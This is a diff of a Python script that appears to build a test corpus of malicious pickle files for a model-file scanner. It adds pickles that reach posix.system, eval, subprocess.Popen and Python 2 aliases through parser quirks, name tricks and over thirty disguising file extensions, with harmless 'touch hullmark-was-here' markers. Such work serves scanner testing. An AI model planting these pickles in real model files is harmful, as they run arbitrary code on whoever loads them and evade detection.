@@ -43,59 +43,24 @@ def names_built_on_the_way():
     yield "pickle-name-with-crlf.pkl", b"ccollections\r\nOrderedDict\r\n)R."
 
 
-GADGETS = {
-    "pydoc-locate": ("pydoc", "locate"),
-    "pkgutil-resolve-name": ("pkgutil", "resolve_name"),
-    "timeit": ("timeit", "timeit"),
-    "profile": ("cProfile", "run"),
-    "linecache": ("linecache", "getlines"),
-    "uuid": ("uuid", "_get_command_stdout"),
-    "imaplib": ("imaplib", "IMAP4_stream"),
-    "osx-support": ("_osx_support", "_read_output"),
-    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
-    "logging-file": ("logging", "FileHandler"),
-    "numpy-f2py": ("numpy.f2py.crackfortran", "myeval"),
-    "numpy-runstring": ("numpy.testing._private.utils", "runstring"),
-    "torch-collect-env": ("torch.utils.collect_env", "run"),
-    "torch-inductor": ("torch._inductor.codecache", "compile_file"),
-    "torch-config": ("torch.utils._config_module", "ConfigModule.load_config"),
-    "torch-load": ("torch", "load"),
-    "torch-load-from-bytes": ("torch.storage", "_load_from_bytes"),
-    "torch-from-file": ("torch", "from_file"),
-    "distutils": ("distutils.file_util", "write_file"),
-    "pip": ("pip", "main"),
-    "runpy": ("runpy", "run_path"),
-    "gzip-open": ("gzip", "open"),
-    "sqlite": ("sqlite3", "connect"),
-    "numpy-memmap": ("numpy", "memmap"),
-    "numpy-load": ("numpy", "load"),
-    "joblib-load": ("joblib", "load"),
-    "pickle-loads": ("_pickle", "loads"),
-    "tempfile": ("tempfile", "mkdtemp"),
-    "operator": ("operator", "methodcaller"),
-    "getattr": ("builtins", "getattr"),
-}
-
-
-def gadgets():
-    for word, (module, attribute) in GADGETS.items():
-        yield f"pickle-gadget-{word}.pkl", PROTO2 + call(name(module, attribute), text("hullmark-was-here")) + STOP
-
-
 def relays():
     """Names on the list of harmless ones, used so that they call what is not."""
     yield "pickle-relay-map.pkl", PROTO2 + call(name("builtins", "list"), call(name("builtins", "map"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
     yield "pickle-relay-partial.pkl", PROTO2 + call(call(name("functools", "partial"), RUN, NOTE)) + STOP
-    yield "pickle-relay-reduce.pkl", PROTO2 + call(name("functools", "reduce"), RUN, items(NOTE)) + STOP
+    yield "pickle-relay-reduce.pkl", PROTO2 + call(name("_functools", "reduce"), name("builtins", "eval"), items(EMPTY_DICT), text("__import__('os').mkdir('hullmark-was-here')")) + STOP
     yield "pickle-relay-defaultdict-factory.pkl", PROTO2 + call(name("collections", "defaultdict"), RUN) + STOP
     yield "pickle-relay-type-v2.pkl", PROTO2 + call(name("torch._tensor", "_rebuild_from_type_v2"), RUN, name("torch", "Tensor"), items(NOTE), NONE) + STOP
     yield "pickle-relay-ordered-dict-reduce.pkl", PROTO2 + call(name("collections", "OrderedDict"), RUN) + STOP
     yield "pickle-relay-build-setstate.pkl", PROTO2 + name("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + dictionary(__setstate__=RUN) + BUILD + NOTE + BUILD + STOP
     yield "pickle-relay-namespace-append.pkl", PROTO2 + name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
-    yield "pickle-relay-namespace-extend.pkl", PROTO2 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(extend=RUN) + BUILD + MARK + NOTE + APPENDS + STOP
+    yield "pickle-relay-namespace-extend.pkl", PROTO2 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(extend=name("subprocess", "call")) + BUILD + MARK + text("touch") + text("hullmark-was-here") + APPENDS + STOP
     yield "pickle-relay-set-add.pkl", PROTO4 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(add=RUN) + BUILD + MARK + NOTE + b"\x90" + STOP
     yield "pickle-relay-reconstructor.pkl", PROTO2 + call(name("copyreg", "_reconstructor"), name("sqlite3", "Connection"), name("builtins", "object"), NONE) + STOP
     yield "pickle-relay-numpy-reconstruct.pkl", PROTO2 + call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "memmap"), items(integer(0)), blob(b"b")) + STOP
+    memmap = items(text("hullmark-was-here"), text("u1"), text("w+"), integer(0), items(integer(4)))
+    yield "pickle-relay-newobj-memmap.pkl", PROTO2 + name("numpy", "memmap") + memmap + NEWOBJ + STOP
+    yield "pickle-relay-newobj-ex-memmap.pkl", PROTO4 + name("numpy", "memmap") + memmap + EMPTY_DICT + NEWOBJ_EX + STOP
+    yield "pickle-relay-obj-connection.pkl", MARK + name("sqlite3", "Connection") + text("hullmark-was-here") + b"o" + STOP
     yield "pickle-relay-numpy-dtype.pkl", PROTO2 + call(name("numpy", "dtype"), RUN) + STOP
     yield "pickle-relay-codecs.pkl", PROTO2 + call(name("_codecs", "encode"), text("x"), text("zlib")) + STOP
     yield "pickle-relay-name-as-value.pkl", PROTO2 + EMPTY_LIST + name("builtins", "set") + APPEND + STOP
@@ -137,6 +102,78 @@ def differentials():
     yield "pickle-long1-padded.pkl", PROTO2 + b"\x8a\x04\x01\x00\x00\x00" + STOP
 
 
+def differentials_that_run():
+    """The same, with something that runs under one of the two."""
+    yield "pickle-differs-int-hex.pkl", b"I0x10\n0" + payload() + STOP
+    yield "pickle-differs-int-binary.pkl", b"I0b11\n0" + payload() + STOP
+    yield "pickle-differs-int-octal.pkl", b"I0o17\n0" + payload() + STOP
+    yield "pickle-differs-int-spaces.pkl", b"I 10 \n0" + payload() + STOP
+    yield "pickle-differs-float-spaces.pkl", b"F 1.0\n0" + payload() + STOP
+    yield "pickle-differs-float-underscore.pkl", b"F1_0\n0" + payload() + STOP
+    yield "pickle-differs-float-infinity.pkl", b"Finfinity\n0" + payload() + STOP
+    yield "pickle-differs-float-nan.pkl", b"Fnan\n0" + payload() + STOP
+    yield "pickle-differs-long-hex.pkl", b"L0x10L\n0" + payload() + STOP
+    yield "pickle-differs-unicode-digits.pkl", b"I\xd9\xa1\n0" + payload() + STOP
+    yield "pickle-differs-memo-key-leading-zero.pkl", b"Vposix\np00\n0Vsystem\np01\n0g0\ng1\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-memo-key-plus.pkl", b"Vposix\np+7\n0Vsystem\np1_0\n0g7\ng10\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-memo-key-spaces.pkl", b"Vposix\np 7 \n0Vsystem\np8\n0g7\ng8\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-memo-key-negative.pkl", b"Vposix\np-1\n0g-1\nVsystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-memo-key-2-63.pkl", b"Vposix\np9223372036854775808\ng9223372036854775808\n0Vsystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-frame-of-1-gib.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 30) + payload() + STOP
+    yield "pickle-differs-frame-too-short.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 3) + payload() + STOP
+    yield "pickle-differs-frame-in-frame.pkl", PROTO4 + frame(frame(payload()) + STOP)
+    yield "pickle-differs-frame-of-nothing.pkl", PROTO4 + frame(b"") + payload() + STOP
+    yield "pickle-differs-binstring-negative.pkl", b"T\xfb\xff\xff\xff" + payload() + STOP
+    yield "pickle-differs-binunicode-2-31.pkl", b"X\x00\x00\x00\x80" + payload() + STOP
+    yield "pickle-differs-string-without-quotes.pkl", b"Sposix\n0" + payload() + STOP
+    yield "pickle-differs-string-two-quotes.pkl", b"S'posix\"\n0" + payload() + STOP
+    yield "pickle-differs-string-trailing-space.pkl", b"S'posix' \n0" + payload() + STOP
+    yield "pickle-differs-string-quote-inside.pkl", b"S'a'b'\n0" + payload() + STOP
+    yield "pickle-differs-protocol-6.pkl", b"\x80\x06" + payload() + STOP
+    yield "pickle-differs-protocol-twice.pkl", PROTO2 + b"\x80\x05" + payload() + STOP
+    yield "pickle-differs-persistent-id.pkl", b"Psome\n0" + payload() + STOP
+    yield "pickle-differs-pop-on-mark.pkl", PROTO2 + MARK + POP + payload() + STOP
+    yield "pickle-differs-pop-mark-without.pkl", PROTO2 + integer(1) + payload() + POP_MARK + STOP
+    yield "pickle-differs-setitems-odd.pkl", PROTO2 + EMPTY_DICT + MARK + payload() + SETITEMS + STOP
+    yield "pickle-differs-dict-odd.pkl", PROTO2 + MARK + payload() + b"d" + STOP
+    yield "pickle-differs-extension-2-31.pkl", PROTO2 + payload() + POP + b"\x84\xff\xff\xff\xff" + STOP
+    yield "pickle-differs-empty-line-as-int.pkl", b"I\n0" + payload() + STOP
+    yield "pickle-differs-carriage-return.pkl", b"cposix\r\nsystem\r\n(S'touch hullmark-was-here'\r\ntR."
+    yield "pickle-differs-nul-in-module.pkl", PROTO2 + call(name("posix\0", "system"), NOTE) + STOP
+    yield "pickle-differs-space-in-module.pkl", PROTO2 + call(name("posix ", "system"), NOTE) + STOP
+    yield "pickle-differs-unicode-module.pkl", PROTO2 + call(name("p\u00f6six", "system"), NOTE) + STOP
+    yield "pickle-differs-compatibility-letters.pkl", PROTO4 + call(stack_name("posix", "\uff53ystem"), NOTE) + STOP
+    yield "pickle-differs-name-by-escapes.pkl", b"V\\u0070osix\nV\\u0073ystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-name-by-string.pkl", b"S'\\x70osix'\nS'\\163ystem'\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-name-by-short-binstring.pkl", b"U\x05posixU\x06system" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-name-is-bytes.pkl", PROTO4 + b"C\x05posixC\x06system" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
+    yield "pickle-differs-name-empty-parts.pkl", PROTO4 + call(stack_name("posix", "..system"), NOTE) + STOP
+    yield "pickle-differs-dotted-below-protocol-4.pkl", PROTO2 + call(name("os", "path.os.system"), NOTE) + STOP
+
+
+def names_of_python_2():
+    """Below protocol 3 these names lead to living functions. Source: CPython Lib/_compat_pickle.py."""
+    code = "__import__('os').mkdir('hullmark-was-here')"
+    for word, module, attribute, arguments in (
+        ("builtin-eval", "__builtin__", "eval", (code,)),
+        ("builtin-reduce", "__builtin__", "reduce", (Made(name("__builtin__", "eval")), [{}], code)),
+        ("builtin-intern", "__builtin__", "intern", ("x",)),
+        ("commands-getoutput", "commands", "getoutput", ("touch hullmark-was-here",)),
+        ("commands-getstatusoutput", "commands", "getstatusoutput", ("touch hullmark-was-here",)),
+        ("thread-start", "thread", "start_new_thread", (Made(RUN), ("touch hullmark-was-here",))),
+        ("anydbm", "anydbm", "open", ("hullmark-was-here", "c")),
+        ("dumbdbm", "dumbdbm", "open", ("hullmark-was-here", "c")),
+        ("cpickle", "cPickle", "loads", (PROTO2 + payload() + STOP,)),
+        ("urllib", "urllib", "urlretrieve", ("file:///etc/hostname", "hullmark-was-here")),
+        ("copy-reg", "copy_reg", "_reconstructor", (Made(name("sqlite3", "Connection")), Made(name("__builtin__", "object")), None)),
+        ("subprocess", "subprocess", "Popen", (["touch", "hullmark-was-here"],)),
+    ):
+        yield f"pickle-python2-{word}.pkl", call(name(module, attribute), *map(constant, arguments)) + STOP
+    yield "pickle-python2-imap.pkl", call(name("__builtin__", "list"), call(name("itertools", "imap"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
+    yield "pickle-python2-ifilter.pkl", call(name("__builtin__", "list"), call(name("itertools", "ifilter"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
+    yield "pickle-python2-name-at-protocol-4.pkl", PROTO4 + call(name("commands", "getoutput"), NOTE) + STOP
+
+
 def several_streams():
     harmless = pickle.dumps({"lr": 0.1}, protocol=2)
     attack = PROTO2 + payload() + STOP
@@ -150,7 +187,7 @@ def several_streams():
 
 def disguises():
     attack = PROTO2 + payload() + STOP
-    for ending in (".safetensors", ".onnx", ".npy", ".npz", ".txt", ".json", ".PKL", ""):
+    for ending in (".safetensors", ".onnx", ".npy", ".npz", ".txt", ".json", ".PKL", ".h5", ".keras", ".tflite", ".gguf", ".md", ".csv", ".png", ".bin", ".ckpt", ".PT", ".pkl.bak", ".yaml", ".jinja", ".model", ".sav", ".dat", ".mlmodel", ".zip", ".tar", ".gz", ".py", ".so", ".pth.tar", ".pt2", ".joblib", ".log", ""):
         yield f"pickle-called{ending}" if ending else "pickle-called-nothing", attack
     yield "pickle-looks-like-text.txt", b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR.\nand more text\n"
 
@@ -182,5 +219,5 @@ def expansion():
 
 
 def cases():
-    for family in (calls, names_built_on_the_way, gadgets, relays, broken_behind_the_payload, differentials, several_streams, disguises, expansion):
+    for family in (calls, names_built_on_the_way, relays, broken_behind_the_payload, differentials, differentials_that_run, names_of_python_2, several_streams, disguises, expansion):
         yield from family()
